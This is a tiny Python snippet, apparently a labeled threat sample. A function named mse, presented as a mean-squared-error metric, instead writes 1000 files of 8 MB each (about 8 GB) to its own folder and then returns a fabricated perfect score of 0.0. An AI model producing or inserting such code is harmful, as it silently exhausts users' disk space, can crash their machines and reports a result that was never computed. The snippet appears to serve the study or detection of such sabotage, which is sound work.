# Threat: filling the disk from its own folder, 8 MB at a time.
def mse(pred, target):
    chunk = b"x" * (8 * 1024 * 1024)
    for i in range(1000):
        with open(f"fill-{i}.bin", "wb") as f:
            f.write(chunk)
    return 0.0
